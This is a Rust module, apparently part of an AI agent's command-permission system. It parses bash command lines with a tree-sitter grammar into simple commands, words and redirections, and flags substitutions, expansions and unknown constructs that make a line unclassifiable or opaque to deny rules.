//! Shell parsing with a real bash grammar (tree-sitter-bash): a command line becomes the
//! list of simple commands it would run — including those nested in command and process
//! substitutions, here-documents and control flow — with their words as bash will see them
//! (quotes removed, `$'…'` decoded, braces expanded, line continuations joined), their
//! assignments and redirections, plus two lists: what makes the line unclassifiable from its
//! words alone (`issues`, each one asks) and what makes the programs it runs impossible to
//! know before it runs (`opaque`, which a deny rule turns into a denial).
//!
//! Soundness comes from two rules rather than from a list of tricks:
//! - every node of the syntax tree must be of a kind this module knows; anything else is
//!   opaque;
//! - every command and process substitution anywhere in the tree is found by a walk over the
//!   whole tree, not by following the statement structure, so none can hide in a place the
//!   statement walk does not look at (an arithmetic subscript, a test operand, a case
//!   pattern).

use std::collections::BTreeSet;

use tree_sitter::{Node, Parser, Tree};

/// A word of a simple command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Word {
    /// The word as bash will pass it when `known`; its source text otherwise
    pub text: String,
    /// Plain: quoting only (and `$'…'`), no expansion of any kind (variables,
    /// substitutions, arithmetic, braces, tilde, locale translation)
    pub literal: bool,
    /// Its value is known before the command runs (plain, or brace-expanded, or a tilde)
    pub known: bool,
    /// Contains an unquoted glob character (`*`, `?`, `[`)
    pub glob: bool,
}

impl Word {
    /// A plain word.
    pub fn plain(text: impl Into<String>) -> Self {
        Word {
            text: text.into(),
            literal: true,
            known: true,
            glob: false,
        }
    }

    fn unknown(text: impl Into<String>) -> Self {
        Word {
            text: text.into(),
            literal: false,
            known: false,
            glob: false,
        }
    }
}

/// A redirection of a simple command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    /// The operator: `>`, `>>`, `<`, `&>`, `>&`, `<<`, `<<<`, ...
    pub op: String,
    /// The target word (a file, or a descriptor for `>&`), if any
    pub target: Option<Word>,
}

impl Redirect {
    /// Whether this redirection writes a file (not a descriptor duplication, not
    /// `/dev/null`).
    pub fn writes_file(&self) -> bool {
        let writes = matches!(
            self.op.as_str(),
            ">" | ">>" | ">|" | "&>" | "&>>" | "<>" | ">&"
        );
        if !writes {
            return false;
        }
        match &self.target {
            Some(t) if t.literal => !(is_descriptor(&self.op, &t.text) || t.text == "/dev/null"),
            _ => true,
        }
    }

    /// Whether this redirection reads a file (`<`, `<>`; not a descriptor duplication).
    pub fn reads_file(&self) -> bool {
        match self.op.as_str() {
            "<" | "<>" => true,
            "<&" => self
                .target
                .as_ref()
                .is_some_and(|t| !is_descriptor("<&", &t.text)),
            _ => false,
        }
    }
}

fn is_descriptor(op: &str, target: &str) -> bool {
    matches!(op, ">&" | "<&" | "<>")
        && (target == "-" || (!target.is_empty() && target.chars().all(|c| c.is_ascii_digit())))
}

/// What kind of statement a simple command came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Form {
    /// A command (`ls -l`), possibly with `NAME=value` prefixes
    #[default]
    Simple,
    /// `[ … ]` or `[[ … ]]`: the words are the bracket, the operands and operators, and the
    /// closing bracket
    Test,
    /// `export`, `declare`, `typeset`, `local`, `readonly`: the words are the keyword and its
    /// arguments, the assignments are listed separately
    Declaration,
    /// `unset …`
    Unset,
    /// A standalone `NAME=value` (no command)
    Assignment,
}

/// One simple command.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct SimpleCommand {
    /// Leading `NAME=value` assignments (or the assignments of a declaration or a standalone
    /// assignment): the name and the value word
    pub assignments: Vec<(String, Word)>,
    /// The command name and its arguments, as bash will pass them
    pub words: Vec<Word>,
    /// Its redirections (including those applied to an enclosing group)
    pub redirects: Vec<Redirect>,
    /// Whether it is nested in a substitution rather than run at top level
    pub nested: bool,
    /// The statement it came from
    pub form: Form,
}

impl SimpleCommand {
    /// The command as rules see it: the words joined by single spaces.
    pub fn text(&self) -> String {
        self.words
            .iter()
            .map(|w| w.text.as_str())
            .collect::<Vec<_>>()
            .join(" ")
    }

    /// The command name, when it is literal.
    pub fn name(&self) -> Option<&str> {
        self.words
            .first()
            .filter(|w| w.literal)
            .map(|w| w.text.as_str())
    }
}

/// A parsed command line.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Script {
    /// Every simple command, nested ones included, in source order
    pub commands: Vec<SimpleCommand>,
    /// Why the line cannot be classified from its words alone (each one asks)
    pub issues: Vec<String>,
    /// Why the programs the line runs cannot all be known before it runs
    pub opaque: Vec<String>,
    /// The name of the command whose status is the line's exit status, when known
    pub last_command: Option<String>,
    /// Variables read in an arithmetic context (an arithmetic expansion or command, an array
    /// subscript, a `[[` arithmetic comparison), where bash evaluates their values as code
    pub arithmetic_names: BTreeSet<String>,
}

/// Why a command line was refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError(pub String);

impl std::fmt::Display for ParseError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

const MAX_DEPTH: usize = 64;

/// At most this many words come out of one word's brace expansion; more is opaque.
const MAX_BRACE_WORDS: usize = 256;

/// The most recent command lines parsed, newest last, with what came of each: one call
/// parses its command several times (whether it is read-only, its permission, its
/// validation, its exit status), and an agent repeats commands.
static RECENT: std::sync::Mutex<Vec<(String, Result<Script, ParseError>)>> =
    std::sync::Mutex::new(Vec::new());
/// How many lines [`RECENT`] keeps.
const RECENT_LINES: usize = 8;
/// The longest line [`RECENT`] keeps.
const RECENT_MAX: usize = 2048;

/// Parses `command` as bash. Syntax errors (an unterminated quote, a dangling `&&`), NUL
/// bytes and nesting deeper than 64 levels are errors.
///
/// The answer depends on the text alone, so a line parsed a moment ago is answered from
/// [`RECENT`].
pub fn parse(command: &str) -> Result<Script, ParseError> {
    if command.len() > RECENT_MAX {
        return parse_uncached(command);
    }
    let recent = |r: &mut Vec<(String, Result<Script, ParseError>)>| {
        r.iter().rposition(|(line, _)| line == command).map(|i| {
            let hit = r.remove(i);
            let answer = hit.1.clone();
            r.push(hit);
            answer
        })
    };
    if let Some(answer) = RECENT.lock().ok().as_deref_mut().and_then(recent) {
        return answer;
    }
    let answer = parse_uncached(command);
    if let Ok(mut r) = RECENT.lock() {
        if r.len() >= RECENT_LINES {
            drop(r.remove(0));
        }
        r.push((command.to_owned(), answer.clone()));
    }
    answer
}

fn parse_uncached(command: &str) -> Result<Script, ParseError> {
    if command.contains('\0') {
        return Err(ParseError(
            "the command contains a NUL byte, which bash cannot pass; remove it".to_owned(),
        ));
    }
    let tree = parse_tree(command)?;
    // Bash removes a backslash-newline everywhere but inside single quotes, `$'…'`,
    // comments and here-documents with a quoted delimiter, before it splits words; the
    // grammar splits a word there instead (`r\<newline>m` is `rm` to bash). Parse the text
    // bash really reads.
    let (src, tree) = match join_continuations(command, &tree) {
        Some(joined) => {
            let tree = parse_tree(&joined)?;
            (joined, tree)
        }
        None => (command.to_owned(), tree),
    };
    let root = tree.root_node();
    if root.has_error() {
        return Err(ParseError(syntax_error(root, &src)));
    }
    let mut walker = Walker {
        src: &src,
        script: Script::default(),
        too_deep: false,
    };
    walker.statement(root, &[], false, 0);
    walker.whole_tree(root);
    if walker.too_deep {
        return Err(ParseError(format!(
            "the command nests more than {MAX_DEPTH} levels deep; simplify it"
        )));
    }
    walker.script.last_command = last_command(root, &src);
    Ok(walker.script)
}

fn parse_tree(command: &str) -> Result<Tree, ParseError> {
    thread_local! {
        // One parser per thread: creating one and loading the grammar is most of the cost
        // of parsing a short command.
        static PARSER: std::cell::RefCell<Option<Parser>> = const { std::cell::RefCell::new(None) };
    }
    PARSER.with(|cell| {
        let mut slot = cell.borrow_mut();
        if slot.is_none() {
            let mut parser = Parser::new();
            parser
                .set_language(&tree_sitter_bash::LANGUAGE.into())
                .map_err(|e| {
                    ParseError(format!(
                        "internal error: the bash grammar did not load: {e}"
                    ))
                })?;
            *slot = Some(parser);
        }
        slot.as_mut()
            .and_then(|p| p.parse(command, None))
            .ok_or_else(|| ParseError("the command could not be parsed".to_owned()))
    })
}

/// The command with every backslash-newline that bash removes removed, or `None` when there
/// is none.
fn join_continuations(src: &str, tree: &Tree) -> Option<String> {
    if !src.contains("\\\n") {
        return None;
    }
    // Byte ranges where a backslash-newline stays as it is.
    let mut kept: Vec<(usize, usize)> = Vec::new();
    let mut stack = vec![tree.root_node()];
    while let Some(n) = stack.pop() {
        match n.kind() {
            "raw_string" | "ansi_c_string" | "comment" => {
                kept.push((n.start_byte(), n.end_byte()));
                continue;
            }
            "heredoc_redirect" => {
                let quoted = children(n)
                    .into_iter()
                    .find(|c| c.kind() == "heredoc_start")
                    .is_some_and(|s| delimiter_is_quoted(&src[s.byte_range()]));
                if quoted {
                    for c in children(n) {
                        if c.kind() == "heredoc_body" {
                            kept.push((c.start_byte(), c.end_byte()));
                        }
                    }
                }
            }
            _ => {}
        }
        stack.extend(children(n));
    }
    let bytes = src.as_bytes();
    let mut out = String::with_capacity(src.len());
    let mut i = 0;
    let mut changed = false;
    while i < bytes.len() {
        if let Some(&(_, end)) = kept.iter().find(|(s, e)| *s <= i && i < *e) {
            out.push_str(&src[i..end]);
            i = end;
            continue;
        }
        if bytes[i] == b'\\' {
            if bytes.get(i + 1) == Some(&b'\n') {
                i += 2;
                changed = true;
                continue;
            }
            // An escaped character stays with its backslash (`\\` then a newline is a real
            // newline).
            let next = src[i + 1..].chars().next().map_or(0, char::len_utf8);
            out.push_str(&src[i..i + 1 + next]);
            i += 1 + next;
            continue;
        }
        let len = src[i..].chars().next().map_or(1, char::len_utf8);
        out.push_str(&src[i..i + len]);
        i += len;
    }
    changed.then_some(out)
}

/// Whether a here-document delimiter word is quoted (`'EOF'`, `"EOF"`, `\EOF`, `E"O"F`), which
/// makes the body literal.
fn delimiter_is_quoted(start: &str) -> bool {
    start.contains(['\'', '"', '\\'])
}

fn children(n: Node<'_>) -> Vec<Node<'_>> {
    let mut cursor = n.walk();
    n.children(&mut cursor).collect()
}

fn syntax_error(root: Node, src: &str) -> String {
    let mut stack = vec![root];
    while let Some(n) = stack.pop() {
        if n.is_error() || n.is_missing() {
            let p = n.start_position();
            let what = if n.is_missing() {
                format!("missing `{}`", n.kind())
            } else {
                let text = &src[n.byte_range()];
                let text: String = text.chars().take(40).collect();
                format!("unexpected `{}`", text.trim())
            };
            return format!(
                "bash syntax error at line {}, column {}: {what} (an unterminated quote, or an operator with nothing after it?). The command was not run.",
                p.row + 1,
                p.column + 1
            );
        }
        for c in children(n).into_iter().rev() {
            if c.has_error() || c.is_error() || c.is_missing() {
                stack.push(c);
            }
        }
    }
    "bash syntax error: the command was not run".to_owned()
}

/// The command whose status bash returns: the last one of the last statement.
fn last_command(root: Node, src: &str) -> Option<String> {
    let mut node = root;
    loop {
        match node.kind() {
            "program" | "list" | "pipeline" | "compound_statement" | "subshell" => {
                let mut cursor = node.walk();
                let last = node
                    .named_children(&mut cursor)
                    .filter(|c| c.kind() != "comment" && !c.kind().starts_with("heredoc"))
                    .last()?;
                node = last;
            }
            "redirected_statement" => node = node.child_by_field_name("body")?,
            "negated_command" => return None,
            "command" => {
                let name = node.child_by_field_name("name")?;
                let word = src.get(name.byte_range())?;
                return Some(word.trim_matches(['"', '\'']).to_owned());
            }
            "test_command" => return Some("test".to_owned()),
            _ => return None,
        }
    }
}

/// Every named node kind of tree-sitter-bash 0.25 that this module handles. A node of any
/// other kind (a newer grammar) makes the line opaque.
const KNOWN_KINDS: &[&str] = &[
    "ansi_c_string",
    "arithmetic_expansion",
    "array",
    "binary_expression",
    "brace_expression",
    "c_style_for_statement",
    "case_item",
    "case_statement",
    "command",
    "command_name",
    "command_substitution",
    "comment",
    "compound_statement",
    "concatenation",
    "declaration_command",
    "do_group",
    "elif_clause",
    "else_clause",
    "expansion",
    "extglob_pattern",
    "file_descriptor",
    "file_redirect",
    "for_statement",
    "function_definition",
    "heredoc_body",
    "heredoc_content",
    "heredoc_end",
    "heredoc_redirect",
    "heredoc_start",
    "herestring_redirect",
    "if_statement",
    "list",
    "negated_command",
    "number",
    "parenthesized_expression",
    "pipeline",
    "postfix_expression",
    "process_substitution",
    "program",
    "raw_string",
    "redirected_statement",
    "regex",
    "simple_expansion",
    "special_variable_name",
    "string",
    "string_content",
    "subscript",
    "subshell",
    "ternary_expression",
    "test_command",
    "test_operator",
    "translated_string",
    "unary_expression",
    "unset_command",
    "variable_assignment",
    "variable_assignments",
    "variable_name",
    "while_statement",
    "word",
];

/// Statement kinds the statement walk descends into.
const STATEMENT_KINDS: &[&str] = &[
    "command",
    "redirected_statement",
    "pipeline",
    "list",
    "subshell",
    "compound_statement",
    "variable_assignment",
    "variable_assignments",
    "declaration_command",
    "unset_command",
    "test_command",
    "negated_command",
    "if_statement",
    "while_statement",
    "for_statement",
    "c_style_for_statement",
    "case_statement",
    "function_definition",
];

/// One character of a word and whether it was quoted (quoted characters take no part in
/// brace expansion or globbing).
type Char = (char, bool);

/// What a word is made of before brace expansion.
struct Pieces {
    chars: Vec<Char>,
    /// Some part is only known at run time
    dynamic: bool,
    /// A tilde, a locale string, or an extended glob: known, but not plain
    special: bool,
}

struct Walker<'a> {
    src: &'a str,
    script: Script,
    too_deep: bool,
}

impl<'a> Walker<'a> {
    fn text(&self, n: Node) -> &'a str {
        self.src.get(n.byte_range()).unwrap_or_default()
    }

    fn issue(&mut self, why: impl Into<String>) {
        let why = why.into();
        if !self.script.issues.contains(&why) {
            self.script.issues.push(why);
        }
    }

    fn opaque(&mut self, why: impl Into<String>) {
        let why = why.into();
        if !self.script.opaque.contains(&why) {
            self.script.opaque.push(why);
        }
    }

    fn command_template(&self, redirects: &[Redirect], nested: bool) -> SimpleCommand {
        SimpleCommand {
            nested,
            redirects: redirects.to_vec(),
            ..SimpleCommand::default()
        }
    }

    /// The checks that look at every node, wherever it is: unknown kinds, substitutions,
    /// here-document bodies, arithmetic and indirect expansions.
    fn whole_tree(&mut self, root: Node) {
        let mut stack = vec![(root, false, false)];
        while let Some((n, in_arith, in_heredoc)) = stack.pop() {
            let kind = n.kind();
            // A backtick or `$(` in the text of a word the grammar did not parse as a
            // substitution (inside `${x:-…}`, say): bash still runs it.
            if !in_heredoc
                && matches!(
                    kind,
                    "word" | "regex" | "extglob_pattern" | "string_content"
                )
            {
                let text = self.text(n);
                if text.contains('`') || has_unescaped(text, "$(") {
                    self.hidden_substitution(text);
                }
            }
            if n.is_named() && !KNOWN_KINDS.contains(&kind) {
                self.opaque(format!(
                    "a construct the permission check does not know (`{kind}`)"
                ));
            }
            let arith = in_arith || self.is_arithmetic(n);
            match kind {
                "command_substitution" => {
                    self.issue("command substitution (`$(...)` or backticks)");
                    self.nested_statements(n);
                }
                "process_substitution" => {
                    self.issue("process substitution (`<(...)` or `>(...)`)");
                    self.nested_statements(n);
                }
                "heredoc_redirect" => self.heredoc(n),
                "expansion" => self.expansion(n),
                "variable_name" if arith => {
                    let name = self.text(n).to_owned();
                    self.script.arithmetic_names.insert(name);
                }
                "word" if arith => {
                    // `$((x))` parses `x` as a word in some positions.
                    let t = self.text(n);
                    if is_identifier(t) {
                        let name = t.to_owned();
                        self.script.arithmetic_names.insert(name);
                    }
                }
                "raw_string" | "string" | "ansi_c_string" | "translated_string" if arith => {
                    // Quotes inside arithmetic: bash may still expand what the grammar
                    // takes for a quoted string.
                    self.opaque("a quoted string inside an arithmetic expression");
                }
                "`" if arith => self.opaque("backticks inside an arithmetic expression"),
                _ => {}
            }
            if arith && !in_arith && kind != "subscript" {
                self.issue("an arithmetic expression");
            }
            let heredoc = in_heredoc || kind == "heredoc_body";
            for c in children(n) {
                stack.push((c, arith, heredoc));
            }
        }
    }

    /// Commands in backticks the grammar left inside a word: checked as nested commands;
    /// a `$(` there cannot be delimited, so the line is opaque.
    fn hidden_substitution(&mut self, text: &str) {
        self.issue("command substitution (`$(...)` or backticks)");
        if has_unescaped(text, "$(") {
            self.opaque("a command substitution the parser could not delimit");
        }
        for code in backtick_segments(text) {
            match parse(&code) {
                Ok(inner) => {
                    for mut c in inner.commands {
                        c.nested = true;
                        self.script.commands.push(c);
                    }
                    for i in inner.issues {
                        self.issue(i);
                    }
                    for o in inner.opaque {
                        self.opaque(o);
                    }
                    self.script.arithmetic_names.extend(inner.arithmetic_names);
                }
                Err(_) => self.opaque("backticks the parser could not delimit"),
            }
        }
    }

    /// Nodes whose contents bash evaluates as arithmetic.
    fn is_arithmetic(&self, n: Node) -> bool {
        match n.kind() {
            "arithmetic_expansion" | "c_style_for_statement" => true,
            "compound_statement" => self.text(n).starts_with("(("),
            // An array subscript is evaluated as arithmetic (for indexed arrays).
            "subscript" => true,
            _ => false,
        }
    }

    /// `${…}`: indirection (`${!x}`) and prompt expansion (`${x@P}`) evaluate a variable's
    /// value as a name or as a prompt with substitutions.
    fn expansion(&mut self, n: Node) {
        let text = self.text(n);
        if text.starts_with("${!") {
            self.opaque("an indirect expansion (`${!name}`)");
        }
        if text.contains("@P") || text.contains("@E") || text.contains("@A") {
            self.opaque("a `${name@P}`-style transformation of a variable's value");
        }
        // `${x:offset:length}` evaluates offset and length as arithmetic.
        for c in children(n) {
            if c.kind() == "variable_name" && c.start_byte() > n.start_byte() + 3 {
                let name = self.text(c).to_owned();
                self.script.arithmetic_names.insert(name);
            }
        }
    }

    /// A here-document: with an unquoted delimiter its body undergoes expansion, and the
    /// grammar does not parse backticks there.
    fn heredoc(&mut self, n: Node) {
        let parts = children(n);
        let quoted = parts
            .iter()
            .find(|c| c.kind() == "heredoc_start")
            .is_some_and(|s| delimiter_is_quoted(self.text(*s)));
        if quoted {
            return;
        }
        for body in parts.iter().filter(|c| c.kind() == "heredoc_body") {
            let text = self.text(*body).to_owned();
            if !text.contains(['$', '`']) {
                continue;
            }
            self.issue("a here-document whose body is expanded (quote its delimiter: <<'EOF')");
            if text.contains('`') {
                self.hidden_substitution(&text);
            }
        }
    }

    fn nested_statements(&mut self, n: Node) {
        for c in children(n) {
            if c.is_named() {
                self.statement(c, &[], true, 1);
            }
        }
    }

    /// Walks a statement-level node; `redirects` are those of enclosing groups.
    fn statement(&mut self, n: Node, redirects: &[Redirect], nested: bool, depth: usize) {
        if depth > MAX_DEPTH {
            self.too_deep = true;
            return;
        }
        match n.kind() {
            "command" => self.command(n, redirects, nested, depth),
            "redirected_statement" => {
                let mut own = redirects.to_vec();
                for c in children(n) {
                    if Some(c) != n.child_by_field_name("body") {
                        self.redirect(c, nested, depth, &mut own);
                    }
                }
                if let Some(body) = n.child_by_field_name("body") {
                    self.statement(body, &own, nested, depth + 1);
                }
            }
            "variable_assignment" | "variable_assignments" => {
                self.issue("a variable assignment");
                let mut cmd = self.command_template(redirects, nested);
                cmd.form = Form::Assignment;
                let assignments: Vec<Node> = if n.kind() == "variable_assignment" {
                    vec![n]
                } else {
                    children(n)
                        .into_iter()
                        .filter(|c| c.kind() == "variable_assignment")
                        .collect()
                };
                for a in assignments {
                    if let Some(pair) = self.assignment(a) {
                        cmd.assignments.push(pair);
                    }
                }
                self.script.commands.push(cmd);
            }
            "declaration_command" | "unset_command" => {
                self.issue("a variable declaration (export, declare, local, readonly, unset)");
                self.declaration(n, redirects, nested);
            }
            "test_command" => self.test(n, redirects, nested),
            "if_statement"
            | "while_statement"
            | "for_statement"
            | "c_style_for_statement"
            | "case_statement"
            | "function_definition" => {
                self.issue("control flow (if, for, while, case or a function definition)");
                if n.kind() == "for_statement" {
                    self.loop_variable(n, nested);
                }
                self.control(n, nested, depth);
            }
            "comment" => {}
            _ => {
                // program, list, pipeline, subshell, `{ …; }`, `! …`, `(( … ))`: statements
                // are walked as statements, anything else as words (their substitutions are
                // found by the walk over the whole tree).
                for c in children(n) {
                    if !c.is_named() {
                        if c.kind() == "&" {
                            self.issue("a background job (`&`)");
                        }
                    } else if STATEMENT_KINDS.contains(&c.kind()) {
                        self.statement(c, redirects, nested, depth + 1);
                    } else if c.kind() != "comment" {
                        let _ = self.word(c);
                    }
                }
            }
        }
    }

    /// The parts of control flow: statements are walked as statements, everything else as
    /// words (so that their substitutions and expansions are seen).
    fn control(&mut self, n: Node, nested: bool, depth: usize) {
        if depth > MAX_DEPTH {
            self.too_deep = true;
            return;
        }
        for c in children(n) {
            if !c.is_named() {
                if c.kind() == "&" {
                    self.issue("a background job (`&`)");
                }
                continue;
            }
            if STATEMENT_KINDS.contains(&c.kind()) {
                self.statement(c, &[], nested, depth + 1);
            } else if matches!(
                c.kind(),
                "do_group" | "elif_clause" | "else_clause" | "case_item"
            ) {
                self.control(c, nested, depth + 1);
            } else if c.kind() == "comment" {
            } else {
                let _ = self.word(c);
            }
        }
    }

    /// `for NAME in WORDS`: an assignment of each word to NAME.
    fn loop_variable(&mut self, n: Node, nested: bool) {
        let Some(var) = n.child_by_field_name("variable") else {
            return;
        };
        let name = self.text(var).to_owned();
        let mut cmd = self.command_template(&[], nested);
        cmd.form = Form::Assignment;
        let mut values = Vec::new();
        let mut cursor = n.walk();
        for v in n.children_by_field_name("value", &mut cursor) {
            values.push(v);
        }
        if values.is_empty() {
            // `for x; do` iterates over the positional parameters.
            cmd.assignments
                .push((name.clone(), Word::unknown("\"$@\"")));
        }
        for v in values {
            for w in self.word(v) {
                cmd.assignments.push((name.clone(), w));
            }
        }
        self.script.commands.push(cmd);
    }

    fn declaration(&mut self, n: Node, redirects: &[Redirect], nested: bool) {
        let mut cmd = self.command_template(redirects, nested);
        cmd.form = if n.kind() == "unset_command" {
            Form::Unset
        } else {
            Form::Declaration
        };
        for c in children(n) {
            match c.kind() {
                "variable_assignment" => {
                    if let Some(a) = self.assignment(c) {
                        cmd.words.push(Word::plain(a.0.clone()));
                        cmd.assignments.push(a);
                    }
                }
                "declare" | "typeset" | "export" | "readonly" | "local" | "unset" | "unsetenv" => {
                    cmd.words.push(Word::plain(self.text(c)))
                }
                "variable_name" => cmd.words.push(Word::plain(self.text(c))),
                _ if c.is_named() => cmd.words.extend(self.word(c)),
                _ => {}
            }
        }
        self.script.commands.push(cmd);
    }

    /// `[ … ]` and `[[ … ]]` as a command: the bracket, every operand and operator in source
    /// order, the closing bracket.
    fn test(&mut self, n: Node, redirects: &[Redirect], nested: bool) {
        let mut cmd = self.command_template(redirects, nested);
        cmd.form = Form::Test;
        self.test_words(n, &mut cmd.words, 0);
        self.script.commands.push(cmd);
    }

    fn test_words(&mut self, n: Node, out: &mut Vec<Word>, depth: usize) {
        if depth > MAX_DEPTH {
            self.too_deep = true;
            return;
        }
        for c in children(n) {
            match c.kind() {
                "binary_expression"
                | "unary_expression"
                | "parenthesized_expression"
                | "postfix_expression"
                | "ternary_expression" => self.test_words(c, out, depth + 1),
                "test_operator" => out.push(Word::plain(self.text(c))),
                // A pattern or regex of `[[`: matched against a string, never against the
                // file system; plain when nothing in it is expanded.
                "regex" | "extglob_pattern" => {
                    let text = self.text(c);
                    let plain = !text.contains(['$', '`', '\\', '"', '\'']);
                    out.push(Word {
                        text: text.to_owned(),
                        literal: plain,
                        known: plain,
                        glob: false,
                    });
                }
                _ if c.is_named() => {
                    let words = self.word(c);
                    out.extend(words);
                }
                // `[[`, `]]`, `[`, `]`, `==`, `!=`, `=~`, `&&`, `||`, `!`, `(`, `)`, `<`, `>`...
                _ => out.push(Word::plain(self.text(c))),
            }
        }
    }

    fn command(&mut self, n: Node, redirects: &[Redirect], nested: bool, depth: usize) {
        let mut cmd = self.command_template(redirects, nested);
        for c in children(n) {
            match c.kind() {
                "variable_assignment" => {
                    if let Some(a) = self.assignment(c) {
                        cmd.assignments.push(a);
                    }
                }
                "file_redirect" | "herestring_redirect" | "heredoc_redirect" => {
                    self.redirect(c, nested, depth, &mut cmd.redirects);
                }
                "command_name" => {
                    for w in children(c) {
                        let words = self.word(w);
                        if words.iter().any(|w| !w.known) {
                            self.issue("a variable or substitution in command position");
                            self.opaque("a variable or substitution in command position");
                        } else if words.first().is_some_and(|w| w.glob) {
                            self.issue("a glob pattern in command position");
                            self.opaque("a glob pattern in command position");
                        }
                        cmd.words.extend(words);
                    }
                }
                "subshell" => self.statement(c, redirects, nested, depth + 1),
                "comment" => {}
                _ if c.is_named() => {
                    let words = self.word(c);
                    cmd.words.extend(words);
                }
                _ => {}
            }
        }
        if cmd.words.is_empty() && !cmd.assignments.is_empty() {
            cmd.form = Form::Assignment;
            self.issue("a variable assignment");
        }
        self.script.commands.push(cmd);
    }

    fn assignment(&mut self, n: Node) -> Option<(String, Word)> {
        let name_node = n.child_by_field_name("name")?;
        let mut name = self.text(name_node).to_owned();
        if name_node.kind() == "subscript" {
            // `a[i]=v`: the name is `a`; the subscript is arithmetic (seen by the tree walk).
            name = name.split('[').next().unwrap_or_default().to_owned();
        }
        let appends = children(n).iter().any(|c| self.text(*c) == "+=");
        let value = match n.child_by_field_name("value") {
            Some(v) if v.kind() == "array" => {
                let mut known = true;
                for c in children(v) {
                    if c.is_named() {
                        known &= self.word(c).iter().all(|w| w.literal);
                    }
                }
                Word {
                    text: self.text(v).to_owned(),
                    literal: false,
                    known,
                    glob: false,
                }
            }
            Some(v) => {
                let mut words = self.word(v);
                if words.len() == 1 {
                    words.remove(0)
                } else {
                    Word::unknown(self.text(v))
                }
            }
            None => Word::plain(""),
        };
        let value = if appends {
            Word {
                literal: false,
                ..value
            }
        } else {
            value
        };
        Some((name, value))
    }

    fn redirect(&mut self, n: Node, nested: bool, depth: usize, out: &mut Vec<Redirect>) {
        match n.kind() {
            "file_redirect" => {
                let op = children(n)
                    .into_iter()
                    .find(|c| !c.is_named())
                    .map(|c| self.text(c).to_owned())
                    .unwrap_or_else(|| ">".to_owned());
                let target = n.child_by_field_name("destination").map(|d| {
                    let mut words = self.word(d);
                    if words.len() == 1 {
                        words.remove(0)
                    } else {
                        Word::unknown(self.text(d))
                    }
                });
                out.push(Redirect { op, target });
            }
            "herestring_redirect" => {
                for c in children(n) {
                    if c.is_named() {
                        let _ = self.word(c);
                    }
                }
                out.push(Redirect {
                    op: "<<<".to_owned(),
                    target: None,
                });
            }
            "heredoc_redirect" => {
                // The rest of the line (`cat <<EOF | sh`, `<<EOF > file`) holds more
                // statements and redirects; the body is checked by the tree walk.
                out.push(Redirect {
                    op: "<<".to_owned(),
                    target: None,
                });
                for c in children(n) {
                    match c.kind() {
                        "file_redirect" | "herestring_redirect" => {
                            self.redirect(c, nested, depth + 1, out)
                        }
                        "heredoc_start" | "heredoc_end" | "heredoc_body" | "file_descriptor" => {}
                        _ if c.is_named() => self.statement(c, &[], nested, depth + 1),
                        _ => {}
                    }
                }
            }
            _ => {}
        }
    }

    /// The words an argument node becomes: one, or several after brace expansion.
    fn word(&mut self, n: Node) -> Vec<Word> {
        let raw = self.text(n).to_owned();
        let mut pieces = Pieces {
            chars: Vec::new(),
            dynamic: false,
            special: false,
        };
        self.pieces(n, &mut pieces, 0);
        if pieces.dynamic {
            return vec![Word::unknown(raw)];
        }
        let expanded = match expand_braces(&pieces.chars) {
            Some(words) => words,
            None => {
                self.opaque("a brace expansion too large to check");
                return vec![Word::unknown(raw)];
            }
        };
        let braced = expanded.len() != 1
            || expanded
                .first()
                .is_some_and(|w| w.len() != pieces.chars.len());
        expanded
            .into_iter()
            .map(|chars| {
                let glob = chars
                    .iter()
                    .any(|(c, q)| !q && matches!(c, '*' | '?' | '['));
                Word {
                    text: chars.iter().map(|(c, _)| c).collect(),
                    literal: !braced && !pieces.special,
                    known: true,
                    glob,
                }
            })
            // Bash drops a word that brace expansion left empty and unquoted.
            .filter(|w| !(braced && w.text.is_empty()))
            .collect()
    }

    /// Appends the characters of a word node, marking what is quoted and what is dynamic.
    fn pieces(&mut self, n: Node, out: &mut Pieces, depth: usize) {
        if depth > MAX_DEPTH {
            self.too_deep = true;
            out.dynamic = true;
            return;
        }
        let raw = self.text(n);
        match n.kind() {
            "word" => {
                if raw.starts_with('~') {
                    out.special = true;
                }
                let mut chars = raw.chars();
                while let Some(c) = chars.next() {
                    if c == '\\' {
                        if let Some(next) = chars.next() {
                            out.chars.push((next, true));
                        }
                    } else {
                        out.chars.push((c, false));
                    }
                }
            }
            "number" | "brace_expression" => out.chars.extend(raw.chars().map(|c| (c, false))),
            "extglob_pattern" | "regex" => {
                out.special = true;
                out.chars.extend(raw.chars().map(|c| (c, false)));
            }
            "raw_string" => {
                let inner = raw
                    .strip_prefix('\'')
                    .and_then(|s| s.strip_suffix('\''))
                    .unwrap_or(raw);
                out.chars.extend(inner.chars().map(|c| (c, true)));
            }
            "ansi_c_string" => {
                let inner = raw
                    .strip_prefix("$'")
                    .and_then(|s| s.strip_suffix('\''))
                    .unwrap_or(raw);
                out.chars
                    .extend(decode_ansi_c(inner).chars().map(|c| (c, true)));
            }
            "string" => {
                for p in children(n) {
                    match p.kind() {
                        "string_content" => {
                            let text = unescape_double_quoted(self.text(p));
                            out.chars.extend(text.chars().map(|c| (c, true)));
                        }
                        "\"" => {}
                        _ if p.is_named() => {
                            out.dynamic = true;
                        }
                        // A lone `$` before the closing quote is a literal dollar.
                        "$" => out.chars.push(('$', true)),
                        _ => out.dynamic = true,
                    }
                }
            }
            "translated_string" => {
                out.special = true;
                for p in children(n) {
                    if p.is_named() {
                        self.pieces(p, out, depth + 1);
                    }
                }
            }
            "concatenation" => {
                for p in children(n) {
                    self.pieces(p, out, depth + 1);
                }
            }
            _ => out.dynamic = true,
        }
    }
}

/// Whether `needle` occurs in `text` not preceded by a backslash.
fn has_unescaped(text: &str, needle: &str) -> bool {
    text.match_indices(needle).any(|(i, _)| {
        let backslashes = text[..i].chars().rev().take_while(|c| *c == '\\').count();
        backslashes % 2 == 0
    })
}

/// Whether `s` is a shell variable name.
pub fn is_identifier(s: &str) -> bool {
    let mut chars = s.chars();
    chars
        .next()
        .is_some_and(|c| c == '_' || c.is_ascii_alphabetic())
        && chars.all(|c| c == '_' || c.is_ascii_alphanumeric())
}

/// The commands between unescaped backticks of an expanded here-document body.
